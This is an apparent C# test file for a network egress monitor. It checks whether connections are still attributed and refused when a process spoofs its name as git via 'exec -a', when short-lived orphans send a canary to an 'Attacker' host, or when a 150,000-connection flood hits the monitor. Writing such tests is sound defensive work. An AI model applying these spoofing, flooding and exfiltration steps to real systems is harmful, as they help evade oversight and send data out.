namespace Sallyport.Kernel.Tests;

/// <summary>Techniques B3, B5, B6: processes that hide, vanish, or are too many.</summary>
public sealed class ProcessTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    [Theory]
    [EveryMode]
    public Task A_process_that_calls_itself_git_is_named_by_its_file(LabMode mode) => ProveAsync(mode, new Attack
    {
        Command = Command(
            "/bin/bash", "-c", $"exec -a /usr/bin/git {Program("tcp")} connect {Attacker} 4443 {Canary}") with
        {
            Policy =
                $$"""
                version: 1
                allow: [allowed.test]
                processes:
                  - match: { exe: "/usr/bin/git" }
                    allow: ["tcp://{{Attacker}}:4443"]
                """,
            Allow = [],
        },
        Row = Row.Connection("tcp", 4443, Attacker),
        Reasons = ["no-rule"],
        Exe = "tcp",
        Silent = (Attacker, 4443),
    });

    [Theory]
    [EveryMode]
    public async Task An_orphan_that_is_gone_at_once_is_still_named(LabMode mode)
    {
        const int Count = 50;
        await ProveAsync(mode, new Attack
        {
            Command = Command(
                "proc", "storm", $"{Count}", Program("udp"), "sendto", Attacker, "5300", Canary),
            Row = Row.Connection("udp", 5300, Attacker),
            Reasons = ["no-rule"],
            Exe = "udp",
            Silent = (Attacker, 5300),
        });
        if (mode != LabMode.Off)
        {
            var run = await Lab.RunAsync(mode, Command(
                "proc", "storm", $"{Count}", Program("udp"), "sendto", Attacker, "5300", Canary));
            var rows = run.Report.Connections.Where(c => c is { Address: Attacker, Port: 5300 }).ToList();
            Assert.True(
                rows.Count == Count && rows.All(r =>
                    run.Report.ExeOf(r.Process)?.EndsWith("/udp", StringComparison.Ordinal) == true),
                $"{rows.Count} rows of {Count} senders.\n{run}");
        }
    }

    [Fact]
    public async Task After_a_flood_that_nobody_read_the_refusal_is_told_and_the_loss_too()
    {
        var agent = "/" + Path.GetFileName(LabOptions.FromEnvironment().Product);
        var run = await Lab.RunAsync(
            LabMode.Block,
            Command("proc", "flood", agent, "150000", Attacker, "4443", Canary) with
            {
                Deadline = TimeSpan.FromSeconds(60),
            });
        Assert.DoesNotContain("0 stopped", run.Process.Output, StringComparison.Ordinal);
        Assert.False(run.Traffic.Contains(Canary), run.ToString());
        Assert.True(
            run.Report.Connections.Any(c => c is { Address: Attacker, Port: 4443, Verdict: "refused" }),
            run.ToString());
        Assert.False(run.Report.Complete, $"Losses were not stated.\n{run}");
        Assert.True(run.Report.Losses.Values.Sum() > 0, run.ToString());
    }

    [Fact]
    public async Task Every_process_carries_its_ancestry()
    {
        var run = await Lab.RunAsync(LabMode.Audit, Command(
            "/bin/sh", "-c", $"/bin/bash -c '{Program("tcp")} connect {Attacker} 4443 {Canary}; true'; true"));
        var row = Assert.Single(run.Report.Connections, c => c.Address == Attacker);
        var names = run.Report.AncestryOf(row.Process).Select(Path.GetFileName).ToList();
        Assert.True(names is ["tcp", "bash", "sh" or "dash", ..], $"{string.Join(" < ", names)}\n{run}");
    }
}
